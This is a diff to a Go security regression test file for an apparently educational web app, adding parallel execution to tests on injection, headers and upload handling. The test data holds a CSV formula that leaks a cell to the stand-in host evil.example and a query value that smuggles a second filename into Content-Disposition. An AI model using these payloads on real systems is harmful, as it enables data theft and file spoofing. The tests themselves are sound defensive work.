@@ -28,6 +28,7 @@ import (
 // it: "audio/webm;a=b,text/html" made Chromium render the chunk the student
 // uploaded as an HTML page on the app's origin, opened by the tutor.
 func TestMediaIsServedAsCanonicalAudioNeverAsADocument(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	a := e.start(studentInGrp, "entrenamiento")
 	e.mustAttempt(studentInGrp, http.MethodPost, "/api/attempts/"+a.ID+"/advance", map[string]int{"from": 0}, http.StatusOK)
@@ -102,6 +103,7 @@ func TestMediaIsServedAsCanonicalAudioNeverAsADocument(t *testing.T) {
 // After grading, the student could still save an edited transcript, and it
 // replaced the tutor's correction (and the evidence computed from it).
 func TestGradedTranscriptIsLockedForTheStudent(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	ids := attemptFixture(e)
 	base := "/api/attempts/" + ids["attempt"]
@@ -147,6 +149,7 @@ func TestGradedTranscriptIsLockedForTheStudent(t *testing.T) {
 
 // A transcript could be saved for a recording the student had deleted.
 func TestNoTranscriptForADeletedRecording(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	ids := attemptFixture(e)
 	rec := "/api/attempts/" + ids["attempt"] + "/recordings/" + ids["rec"]
@@ -160,6 +163,7 @@ func TestNoTranscriptForADeletedRecording(t *testing.T) {
 // leaking the next cell to another site when a tutor opened the file); the
 // neutralised export must still import back to the same text.
 func TestCaseCSVExportIsNeutralisedAndStillImportsBack(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	hostile := map[string]any{"degreeId": "derecho",
 		"area":       `=HYPERLINK("http://evil.example/?leak="&C2,"Area")`,
@@ -215,6 +219,7 @@ func TestCaseCSVExportIsNeutralisedAndStillImportsBack(t *testing.T) {
 // The degree query parameter was pasted into Content-Disposition, so
 // degree=x"; filename="evil.html added a second filename.
 func TestCaseExportFilenameCannotBeInjected(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	e.expectRefusal(tutor, http.MethodGet, "/api/admin/cases/export?format=csv&degree=x%22%3B%20filename%3D%22evil.html", nil,
 		http.StatusNotFound, "degree_not_found")
@@ -234,6 +239,7 @@ func TestCaseExportFilenameCannotBeInjected(t *testing.T) {
 // default; browsers and Go's cookie jar treat http://127.0.0.1 and
 // http://localhost as secure, so local runs keep working.
 func TestSessionCookieIsHostPrefixedAndSecureByDefault(t *testing.T) {
+	t.Parallel()
 	login := map[string]string{"email": "tutor@utpl.edu.ec", "password": testPassword}
 	e := newEnv(t)
 	res := e.do(guest, http.MethodPost, "/api/auth/login", login)
@@ -276,6 +282,7 @@ func TestSessionCookieIsHostPrefixedAndSecureByDefault(t *testing.T) {
 
 // HSTS had no includeSubDomains.
 func TestHSTSCoversSubdomains(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, func(c *config.Config) { c.TrustProxy = true })
 	res := e.do(guest, http.MethodGet, "/api/health", nil, "X-Forwarded-Proto", "https")
 	if got := res.Header().Get("Strict-Transport-Security"); got != "max-age=31536000; includeSubDomains" {
@@ -287,6 +294,7 @@ func TestHSTSCoversSubdomains(t *testing.T) {
 // keyboards and systems send accents), and e-mail lower-casing folded the
 // Kelvin sign (U+212A) into an ASCII k, so "\u212Aate@…" signed in as kate.
 func TestCredentialsAreUnicodeNormalised(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	ctx := context.Background()
 	nfc, nfd := "Contraseña-é-123", "Contrasen\u0303a-e\u0301-123"
@@ -304,6 +312,7 @@ func TestCredentialsAreUnicodeNormalised(t *testing.T) {
 // A body over the route's limit was answered 413 only when Content-Length
 // announced it; sent chunked, the same body got 400.
 func TestOversizedBodyWithoutContentLengthIs413(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	huge := `{"email":"` + strings.Repeat("a", 1<<20) + `","password":"x"}`
 	req := httptest.NewRequest(http.MethodPost, "/api/auth/login", io.MultiReader(strings.NewReader(huge)))
@@ -343,6 +352,7 @@ func chunkHead(e *env, path string, length int) string {
 // A slow upload that hit the server's read timeout was answered 500 and
 // logged at ERROR, so anyone could fill the error log.
 func TestBodyReadTimeoutIsA408NotAnError(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	ids := attemptFixture(e)
 	srv := httptest.NewUnstartedServer(e.handler)
@@ -370,6 +380,7 @@ func TestBodyReadTimeoutIsA408NotAnError(t *testing.T) {
 // of the body, i.e. after the read timeout for a slow sender. The answer
 // now comes at once and closes the connection.
 func TestRefusedUploadIsAnsweredWithoutWaitingForTheBody(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t)
 	ids := attemptFixture(e)
 	base := "/api/attempts/" + ids["attempt"] + "/recordings/" + ids["rec"]
